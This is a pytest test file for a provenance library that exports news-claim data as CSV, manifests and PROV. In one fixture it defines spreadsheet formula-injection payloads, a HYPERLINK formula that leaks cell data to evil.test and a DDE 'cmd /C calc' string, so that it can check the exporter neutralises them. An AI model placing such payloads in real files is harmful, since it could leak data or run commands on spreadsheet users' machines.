"""The audit export library: CSV (claims, hops, sources), manifests, content hash and PROV."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sys
from pathlib import Path

import pytest

from provenance import export
from provenance.convert import claim_from_json
from provenance.errors import (
    CannotWrite,
    InvalidInput,
    ManifestMismatch,
    NotFound,
    ProvenanceError,
)
from provenance.export import ClaimFilter
from provenance.models import Claim, Document, Figure, Hop
from provenance.read import read_documents
from provenance.store import Store, claim_key
from provenance.store_exports import CLAIM_COLUMNS

from .conftest import CORPUS, SEEDS

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# ---------------------------------------------------------------------------
# building stores from the gold annotations
# ---------------------------------------------------------------------------


def gold_articles() -> list[tuple[Document, dict]]:
    """Every seed and corpus article read by the real reader, with its parsed gold file."""
    articles = []
    for folder in (SEEDS, CORPUS):
        for _where, document in read_documents([folder]):
            assert isinstance(document, Document), document
            path = Path(document.path)
            gold = json.loads(path.with_name(path.stem + ".gold.json").read_text(encoding="utf-8"))
            articles.append((document, gold))
    return articles


def fill(store: Store, articles) -> Store:
    """Add the articles with their gold claims (the extractor's stand-in)."""
    for document, gold in articles:
        store.add_document(document, [claim_from_json(c) for c in gold["claims"]])
    return store


@pytest.fixture(scope="module")
def articles():
    return gold_articles()


@pytest.fixture(scope="module")
def gold_store(articles):
    store = fill(Store.memory(), articles)
    yield store
    store.close()


def csv_bytes(store, **options) -> bytes:
    out = io.BytesIO()
    export.write_csv(store, out, **options)
    return out.getvalue()


def parse(data: bytes) -> list[dict[str, str]]:
    """Parse CSV bytes with the csv module (UTF-8, BOM tolerated)."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def unescape(cell: str) -> str:
    """The documented reversal of the injection rule: strip one leading quote."""
    return cell[1:] if cell.startswith("'") else cell


def number(cell: str):
    return None if cell == "" else float(cell)


# ---------------------------------------------------------------------------
# claims
# ---------------------------------------------------------------------------


def test_every_gold_claim_appears_with_its_chain_and_figure(gold_store, articles):
    rows = {row["claim_key"]: row for row in parse(csv_bytes(gold_store))}
    expected = sum(len(gold["claims"]) for _, gold in articles)
    assert len(rows) == expected > 200
    for document, gold in articles:
        for claim in gold["claims"]:
            row = rows[claim_key(document.id, claim["id"])]
            where = f"{document.path} {claim['id']}"
            figure = claim["figure"]
            assert row["document_id"] == document.id, where
            assert unescape(row["sentence"]) == claim["sentence"], where
            assert unescape(row["figure"]) == figure["text"], where
            for name in ("value", "low", "high"):
                assert number(row[name]) == figure[name], (where, name)
            assert row["qualifier"] == figure["qualifier"] and row["category"] == figure["category"]
            assert unescape(row["counts"]) == figure["counts"], where
            assert row["unit"] == (figure["unit"] or "")
            assert row["hedges"] == "; ".join(claim["hedges"]), where
            chain = [hop["source"] for hop in claim["chain"]]
            assert row["chain"] == " → ".join(chain), where
            assert row["origin"] == chain[0] and row["origin_kind"] == claim["chain"][0]["kind"]
            assert int(row["relays"]) == max(len(chain) - 2, 0), where
            assert row["headline"] == str(int(claim["headline"])), where
            assert row["publisher"] == (document.publisher or chain[-1])
            assert row["published"] == (document.published or "")
            assert row["url"] == (document.url or "")
            assert row["origin_unstated"] == str(int(claim.get("origin_unstated", False)))


def test_claim_columns_carry_scores_and_offsets(gold_store):
    header = parse(csv_bytes(gold_store))[0].keys()
    for column in ("directness", "cluster", "corroboration", "independent_origins", "grade",
                   "flags", "explanation", "sentence_start", "sentence_end", "figure_start", "figure_end"):  # fmt: skip
        assert column in header


def test_resolved_scores_are_exported_for_every_claim(articles):
    from provenance.resolve import resolve_all

    store = fill(Store.memory(), articles)
    resolution = resolve_all(store)
    rows = parse(csv_bytes(store))
    assert len(rows) == len(resolution.claims)
    for row in rows:
        assessment = resolution.claims[row["claim_key"]]
        figure = resolution.figures[assessment.cluster]
        assert row["cluster"] == assessment.cluster
        assert float(row["directness"]) == assessment.directness
        assert float(row["corroboration"]) == figure.corroboration
        assert int(row["independent_origins"]) == figure.independent_origins
        assert row["grade"] == figure.grade
        assert row["flags"] == "; ".join(assessment.flags)
        assert row["figure_flags"] == "; ".join(figure.flags)
        assert unescape(row["explanation"]) == figure.explanation
    figures = parse(csv_bytes(store, what="figures"))
    assert {f["cluster"] for f in figures} == set(resolution.figures)
    for f in figures:
        figure = resolution.figures[f["cluster"]]
        assert (number(f["low"]), number(f["best"]), number(f["high"])) == (
            figure.low,
            figure.best,
            figure.high,
        )
        assert int(f["claims"]) == len(figure.claims) and f["grade"] == figure.grade
    flagged = parse(csv_bytes(store, filters=ClaimFilter(flag="single_origin")))
    expected = {
        key
        for key, a in resolution.claims.items()
        if "single_origin" in a.flags or "single_origin" in resolution.figures[a.cluster].flags
    }
    assert {r["claim_key"] for r in flagged} == expected and expected


def test_offsets_point_into_the_document_text():
    text = "Quake kills 1,411\n\nThe toll rose to 1,411, officials said."
    document = Document.from_text(text, title="Quake kills 1,411", publisher="Highland Herald")
    start = text.index("The toll")
    claim = Claim(
        id="c1",
        sentence="The toll rose to 1,411, officials said.",
        figure=Figure(value=1411, qualifier="exact", category="killed", counts="people",
                      text="1,411", span=(text.index("1,411", start), text.index("1,411", start) + 5)),
        chain=(Hop(source="officials", kind="anonymous", mention="officials", cue="said", span=(start + 24, start + 33)),
               Hop.publisher(document)),
        span=(start, len(text)),
    )  # fmt: skip
    store = Store.memory()
    store.add_document(document, [claim])
    (row,) = parse(csv_bytes(store))
    assert text[int(row["sentence_start"]) : int(row["sentence_end"])] == claim.sentence
    assert text[int(row["figure_start"]) : int(row["figure_end"])] == "1,411"
    (origin, publisher) = parse(csv_bytes(store, what="hops"))
    assert text[int(origin["start"]) : int(origin["end"])] == "officials"
    assert publisher["start"] == "" and publisher["source"] == "Highland Herald"


# ---------------------------------------------------------------------------
# formula injection and numbers
# ---------------------------------------------------------------------------


@pytest.fixture
def hostile_store():
    """A document whose headline, sentence, counts and sources start like spreadsheet formulas."""
    headline = '=HYPERLINK("http://evil.test/?leak="&A1,"600 killed")'
    sentence = "@SUM(1+1)*cmd|' /C calc'!A0 said 600 soldiers were killed and output fell -0.5%."
    text = f"{headline}\n\n{sentence}"
    document = Document.from_text(
        text, title=headline, publisher="+Evil Gazette", url="-http://x.test"
    )
    publisher = Hop.publisher(document)
    claims = [
        Claim(id="c1", sentence=headline, headline=True,
              figure=Figure(value=600, qualifier="exact", category="killed", counts="\tsoldiers", text="600"),
              chain=(Hop(source="=Bad Source", kind="official", mention="'quoted", cue="-said"), publisher)),
        Claim(id="c2", sentence=sentence,
              figure=Figure(value=-0.5, qualifier="exact", category="other", counts="\rchange in output",
                            text="-0.5%", unit="percent"),
              chain=(Hop(source="@agency", kind="government"), publisher), hedges=("-estimated",)),
    ]  # fmt: skip
    store = Store.memory()
    store.add_document(document, claims)
    yield store, document, claims
    store.close()


def test_formula_cells_are_neutralised_and_reversible(hostile_store):
    store, document, claims = hostile_store
    rows = parse(csv_bytes(store))
    assert len(rows) == 2
    numeric = {c.name for c in CLAIM_COLUMNS if c.kind == "number"}
    for row in rows:
        for column, cell in row.items():
            if column not in numeric:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    first, second = rows
    assert first["sentence"] == "'" + claims[0].sentence
    assert second["sentence"] == "'" + claims[1].sentence
    assert (
        unescape(first["counts"]) == "\tsoldiers"
        and unescape(second["counts"]) == "\rchange in output"
    )
    assert first["publisher"] == "'+Evil Gazette" and first["url"] == "'-http://x.test"
    assert first["origin"] == "'=Bad Source" and second["origin"] == "'@agency"
    assert unescape(second["figure"]) == "-0.5%" and second["hedges"] == "'-estimated"
    # Numbers are written as plain numbers: a negative value is not prefixed.
    assert second["value"] == "-0.5" and first["value"] == "600"
    hops = parse(csv_bytes(store, what="hops"))
    assert hops[0]["cue"] == "'-said" and unescape(hops[0]["mention"]) == "'quoted"
    assert (
        hops[0]["mention"] == "''quoted"
    )  # an existing leading quote is escaped too, so reversal is exact
    sources = parse(csv_bytes(store, what="sources"))
    assert {s["name"] for s in sources} == {"'=Bad Source", "'@agency", "'+Evil Gazette"}


def test_rfc4180_quoting_and_line_ends(hostile_store):
    store, _document, _claims = hostile_store
    data = csv_bytes(store)
    assert data.endswith(b"\r\n")
    # Every record ends with CRLF; the only lone CR/LF are inside quoted fields (the \r counts cell).
    records = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(records) == 3
    assert b'"=HYPERLINK(""http://evil.test/?leak=""&A1,""600 killed"")"' not in data  # neutralised
    assert b'"\'=HYPERLINK(""http://evil.test/?leak=""&A1,""600 killed"")"' in data


def test_excel_adds_a_bom_and_nothing_else(gold_store):
    plain = csv_bytes(gold_store)
    excel = csv_bytes(gold_store, excel=True)
    assert excel == "\ufeff".encode() + plain
    assert parse(excel) == parse(plain)


# ---------------------------------------------------------------------------
# determinism and streaming
# ---------------------------------------------------------------------------


def test_same_database_same_bytes(gold_store, articles):
    first = csv_bytes(gold_store)
    assert csv_bytes(gold_store) == first
    # A second database built from the same inputs (other ingestion timestamps) gives the same bytes.
    other = fill(Store.memory(), articles)
    assert csv_bytes(other) == first
    for what in ("hops", "sources"):
        assert csv_bytes(other, what=what) == csv_bytes(gold_store, what=what)
    assert export.content_hash(other) == export.content_hash(gold_store)


def test_batch_size_does_not_change_the_bytes(gold_store):
    for what in ("claims", "hops", "sources"):
        assert csv_bytes(gold_store, what=what, batch_rows=7) == csv_bytes(gold_store, what=what)


def test_content_hash_changes_with_content(articles):
    store = fill(Store.memory(), articles[:3])
    before = export.content_hash(store)
    assert before.startswith("sha256:") and export.content_hash(store) == before
    store.conn.execute("UPDATE claims SET value = value + 1 WHERE id = 1")
    assert export.content_hash(store) != before


# ---------------------------------------------------------------------------
# hops and sources
# ---------------------------------------------------------------------------


def test_hops_follow_each_chain_in_order(gold_store, articles):
    hops = parse(csv_bytes(gold_store, what="hops"))
    by_claim: dict[str, list[dict]] = {}
    for row in hops:
        by_claim.setdefault(row["claim_key"], []).append(row)
    for document, gold in articles:
        for claim in gold["claims"]:
            rows = by_claim[claim_key(document.id, claim["id"])]
            assert [int(r["position"]) for r in rows] == list(range(len(claim["chain"])))
            for row, hop in zip(rows, claim["chain"], strict=True):
                assert (row["source"], row["kind"]) == (hop["source"], hop["kind"])
                assert unescape(row["cue"]) == (hop["cue"] or "")
                assert unescape(row["mention"]) == (hop["mention"] or "")
                assert row["members"] == "; ".join(hop.get("members", []))


def test_sources_count_their_claims(gold_store, articles):
    sources = {row["name"]: row for row in parse(csv_bytes(gold_store, what="sources"))}
    origins: dict[str, int] = {}
    anywhere: dict[str, set] = {}
    for document, gold in articles:
        for claim in gold["claims"]:
            key = claim_key(document.id, claim["id"])
            origins[claim["chain"][0]["source"]] = origins.get(claim["chain"][0]["source"], 0) + 1
            for hop in claim["chain"]:
                anywhere.setdefault(hop["source"], set()).add(key)
    assert set(sources) == set(anywhere)
    for name, keys in anywhere.items():
        assert int(sources[name]["claims"]) == len(keys), name
        assert int(sources[name]["as_origin"]) == origins.get(name, 0), name


def test_figures_are_empty_before_resolution(gold_store):
    data = csv_bytes(gold_store, what="figures")
    assert data.startswith(b"cluster,") and data.count(b"\r\n") == 1


# ---------------------------------------------------------------------------
# filters
# ---------------------------------------------------------------------------


def test_filters_select_the_matching_claims(gold_store, articles):
    def keys(**filters):
        return {
            row["claim_key"] for row in parse(csv_bytes(gold_store, filters=ClaimFilter(**filters)))
        }

    def gold_keys(predicate):
        return {
            claim_key(document.id, claim["id"])
            for document, gold in articles
            for claim in gold["claims"]
            if predicate(document, claim)
        }

    assert keys(category="injured") == gold_keys(lambda d, c: c["figure"]["category"] == "injured")
    assert keys(headline=True) == gold_keys(lambda d, c: c["headline"])
    nis = "National Intelligence Service"
    assert keys(origin=nis) == gold_keys(lambda d, c: c["chain"][0]["source"] == nis)
    assert keys(source="Yonhap News Agency") == gold_keys(
        lambda d, c: any(h["source"] == "Yonhap News Agency" for h in c["chain"])
    )
    assert keys(publisher="Northgate Times") == gold_keys(
        lambda d, c: d.publisher == "Northgate Times"
    )

    def day(d, c):
        return (c.get("as_of") or d.published or "")[:10]

    assert keys(since="2025-01-01", until="2025-06-30") == gold_keys(
        lambda d, c: day(d, c) and "2025-01-01" <= day(d, c) <= "2025-06-30"
    )
    assert keys(query="Kursk") == gold_keys(lambda d, c: "kursk" in c["sentence"].lower())
    assert keys(query="Kursk killed") == keys(query="Kursk") & keys(query="killed")
    assert keys(category="killed", origin=nis) == keys(category="killed") & keys(origin=nis)


def test_bad_filters_fail_before_writing(gold_store):
    out = io.BytesIO()
    with pytest.raises(NotFound, match="Yonhap News Agency"):
        export.write_csv(gold_store, out, filters=ClaimFilter(origin="Yonhap"))
    with pytest.raises(ProvenanceError, match="--since"):
        export.write_csv(gold_store, out, filters=ClaimFilter(since="last week"))
    with pytest.raises(ProvenanceError, match="--category"):
        export.write_csv(gold_store, out, filters=ClaimFilter(category="dead"))
    assert out.getvalue() == b""


# ---------------------------------------------------------------------------
# files, manifests, verification
# ---------------------------------------------------------------------------


def test_manifest_records_the_file_and_the_database(gold_store, tmp_path):
    target = tmp_path / "claims.csv"
    result = export.export_csv(gold_store, target, filters=ClaimFilter(category="killed"))
    data = target.read_bytes()
    manifest = json.loads(export.manifest_path(target).read_text(encoding="utf-8"))
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest() == result.csv.sha256
    assert manifest["bytes"] == len(data)
    assert manifest["rows"] == len(parse(data)) == result.csv.rows
    assert manifest["filters"] == {"category": "killed"}
    assert manifest["export"] == "claims" and manifest["version"]
    assert manifest["database"]["content_hash"] == export.content_hash(gold_store)
    assert manifest["database"]["rows"]["claims"] == gold_store.counts()["claims"]
    assert manifest["exported_at"]
    assert export.verify_export(target, gold_store)["sha256"] == manifest["sha256"]
    assert not list(tmp_path.glob(".*partial*"))


def test_verify_catches_an_edited_file(gold_store, tmp_path):
    target = tmp_path / "claims.csv"
    export.export_csv(gold_store, target)
    data = target.read_bytes()
    target.write_bytes(data.replace(b",600,", b",6000,", 1))
    with pytest.raises(ManifestMismatch, match="changed after export"):
        export.verify_export(target)
    target.write_bytes(data)
    export.verify_export(target)


def test_verify_catches_a_changed_database(articles, tmp_path):
    store = fill(Store.memory(), articles[:2])
    target = tmp_path / "claims.csv"
    export.export_csv(store, target)
    fill(store, articles[2:3])
    with pytest.raises(ManifestMismatch, match="database changed"):
        export.verify_export(target, store)


def test_verify_without_a_manifest(tmp_path):
    target = tmp_path / "loose.csv"
    target.write_text("a,b\r\n")
    with pytest.raises(InvalidInput, match="manifest"):
        export.verify_export(target)


def test_unknown_export_and_unwritable_paths(gold_store, tmp_path):
    with pytest.raises(InvalidInput, match="claims, hops, figures, sources"):
        export.export_csv(gold_store, tmp_path / "x.csv", what="documents")
    with pytest.raises(CannotWrite):
        export.export_csv(gold_store, tmp_path / "missing" / "x.csv")
    with pytest.raises(CannotWrite, match="folder"):
        export.export_csv(gold_store, tmp_path)
    assert not (tmp_path / "x.csv").exists()


def test_a_failed_export_leaves_no_file(gold_store, tmp_path, monkeypatch):
    real = export.iter_batches

    def failing(*args, **kwargs):
        yield from real(*args, **kwargs)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "iter_batches", failing)
    target = tmp_path / "claims.csv"
    with pytest.raises(CannotWrite, match="No space left"):
        export.export_csv(gold_store, target)
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------
# PROV
# ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def seed_store(articles):
    store = fill(Store.memory(), [a for a in articles if Path(a[0].path).parent.name == "seeds"])
    yield store
    store.close()


def test_prov_round_trips_through_prov(seed_store):
    from prov.model import ProvDocument

    document = export.prov_document(seed_store)
    text = document.serialize(format="json")
    assert ProvDocument.deserialize(content=text, format="json") == document
    assert len(document.records) > 50


def test_prov_has_the_nis_lawmakers_yonhap_chain_as_derivations(seed_store):
    from prov.model import ProvAttribution, ProvDocument

    out = io.BytesIO()
    export.export_prov(seed_store, "-", stdout=out)
    document = ProvDocument.deserialize(content=out.getvalue().decode("utf-8"), format="json")
    label = {
        str(record.identifier): next(iter(record.get_attribute("prov:label")))
        for record in document.get_records()
        if record.is_element() and record.get_attribute("prov:label")
    }
    said_by = {}
    for record in document.get_records(ProvAttribution):
        entity, agent = (str(value) for _, value in record.formal_attributes[:2])
        said_by[entity] = label[agent]
    links = derivations(document)
    derived_from = {
        gen: used for (gen, used), types in links.items() if "prov:PrimarySource" not in types
    }
    primary = [pair for pair, types in links.items() if "prov:PrimarySource" in types]

    def chain_of(entity):
        names = [said_by[entity]]
        while entity in derived_from:
            entity = derived_from[entity]
            names.insert(0, said_by[entity])
        return names, entity

    wanted = ["National Intelligence Service", "lawmakers", "Yonhap News Agency"]
    found = []
    for published, origin in primary:
        names, root = chain_of(published)
        assert root == origin  # the primary source is the first link of the derivation chain
        if names[:3] == wanted:
            found.append(published)
    assert found, "no claim derived NIS -> lawmakers -> Yonhap"


def test_prov_quotation_and_unstated_origins():
    text = "Ten killed, agency says\n\nThe agency quoted the minister as saying ten people died. Twelve were hurt."
    document = Document.from_text(text, title="Ten killed, agency says", publisher="Daily Test")
    minister = Hop(
        source="Health Minister", kind="official", mention="the minister", cue="as saying"
    )
    agency = Hop(source="Test Agency", kind="news_agency", mention="The agency", cue="quoted")
    claims = [
        Claim(id="c1", sentence="The agency quoted the minister as saying ten people died.",
              figure=Figure(value=10, qualifier="exact", category="killed", counts="people", text="ten"),
              chain=(minister, agency, Hop.publisher(document))),
        Claim(id="c2", sentence="Twelve were hurt.", origin_unstated=True,
              figure=Figure(value=12, qualifier="exact", category="injured", counts="people", text="Twelve"),
              chain=(agency, Hop.publisher(document))),
    ]  # fmt: skip
    store = Store.memory()
    store.add_document(document, claims)
    links = derivations(export.prov_document(store))
    c1, c2 = (f"claim:{document.id.removeprefix('sha256:')[:12]}-{n}" for n in ("c1", "c2"))
    assert links[(f"{c1}.h1", f"{c1}.h0")] == {"prov:Quotation"}  # the agency quoted the minister
    assert links[(c1, f"{c1}.h1")] == set()  # the outlet published the agency's report
    assert links[(c1, f"{c1}.h0")] == {"prov:PrimarySource"}
    # An unstated origin is not asserted as a primary source.
    assert links[(c2, f"{c2}.h0")] == set()
    assert len([pair for pair in links if pair[0] == c2]) == 1


def derivations(document) -> dict[tuple[str, str], set[str]]:
    """``(generated, used) -> PROV types`` of every derivation in a PROV document."""
    from prov.model import ProvDerivation

    found = {}
    for record in document.get_records(ProvDerivation):
        generated, used = (str(value) for _, value in record.formal_attributes[:2])
        found[(generated, used)] = {str(t) for t in record.get_asserted_types()}
    return found


def test_prov_formats_and_errors(seed_store, tmp_path, monkeypatch):
    target = export.export_prov(seed_store, tmp_path / "chains.provn", fmt="provn")
    assert target.read_text(encoding="utf-8").startswith("document")
    with pytest.raises(InvalidInput, match="json, provn"):
        export.export_prov(seed_store, tmp_path / "x", fmt="xml")
    monkeypatch.setitem(sys.modules, "prov", None)
    monkeypatch.setitem(sys.modules, "prov.model", None)
    with pytest.raises(ProvenanceError, match=r"pip install 'provenance\[export\]'"):
        export.prov_document(seed_store)
